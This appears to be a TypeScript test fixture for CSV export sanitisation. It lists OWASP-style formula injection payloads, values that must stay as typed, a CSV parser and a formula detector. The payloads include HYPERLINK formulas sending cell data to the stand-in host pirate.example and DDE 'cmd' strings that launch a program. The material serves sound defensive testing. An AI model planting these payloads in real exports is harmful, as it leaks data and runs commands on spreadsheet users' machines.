/**
 * Cells a spreadsheet would run as formulas (OWASP's « CSV Injection » list: =, +, -, @, tab,
 * carriage return, their full-width forms, after spaces too), as a visitor or an owner could type
 * them into anything an export carries.
 */
export const FORMULA_ATTACKS = [
  '=HYPERLINK("https://pirate.example/?d="&D2,"Voir")',
  '+1+HYPERLINK("https://pirate.example/?d="&D2,"Voir")',
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+A1',
  '-A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "＋1+cmd|' /C calc'!A0",
  '－1+1',
  '＠SUM(A1)',
  '   =1+1',
  "\u00a0+cmd|' /C calc'!A0",
] as const;

/** What stays as typed: a plain negative amount and phone numbers, read as such. */
export const KEPT_AS_TYPED = ['-12,50', '+33 6 12 34 56 78', '+33 (0)1 23 45 67 89', '06 12 34 56 78'] as const;

/** The cells of a CSV file as a spreadsheet splits them (byte order mark dropped, `;`, quotes, CRLF). */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const source = text.replace(/^\uFEFF/, '');
  for (let index = 0; index < source.length; index += 1) {
    const char = source[index] as string;
    if (quoted) {
      if (char === '"' && source[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && source[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/**
 * Whether a spreadsheet would run the cell: its first character, past white space, starts a
 * formula, and the cell is not a mere number (digits, spaces and punctuation).
 */
export function runsAsFormula(cell: string): boolean {
  if (/^\p{Cc}/u.test(cell)) return true;
  const start = cell.replace(/^\s+/, '');
  return /^[=+\-@＝＋－＠﹢﹣﹦]/.test(start) && !/^[+-]?[\d\s().,/-]+$/.test(start);
}
